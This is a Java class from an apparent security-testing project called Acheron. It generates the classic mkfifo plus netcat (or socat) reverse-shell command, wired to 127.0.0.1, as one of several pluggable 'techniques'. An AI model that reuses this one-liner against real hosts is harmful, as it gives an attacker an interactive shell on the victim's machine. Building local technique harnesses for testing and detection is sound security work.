/*
 * SPDX-License-Identifier: Apache-2.0
 * Copyright The Acheron Authors
 */
package io.acheron.local.technique;

import java.util.List;

/** The classic with a named pipe: the shell reads a fifo and writes a pipe, and only the relay holds the socket. */
public final class FifoNetcat extends ReverseShell {
    /** Made by the service loader. */
    public FifoNetcat() {
        super(
                "fifo-netcat",
                "a shell reads from a fifo and writes to a pipe; nc (or socat) at their other ends holds the socket",
                List.of(List.of("mkfifo"), List.of("nc", "socat")));
    }

    @Override
    List<String> command(Stage stage, int port) throws TechniqueFailedException {
        String relay = stage.tool("nc", "socat");
        String call = relay.endsWith("socat") ? "%s - TCP:127.0.0.1:%d" : "%s 127.0.0.1 %d";
        return List.of(
                stage.tool("sh"),
                "-c",
                "mkfifo f && cat f | sh -i 2>&1 | %s > f; rm -f f".formatted(call.formatted(relay, port)));
    }
}
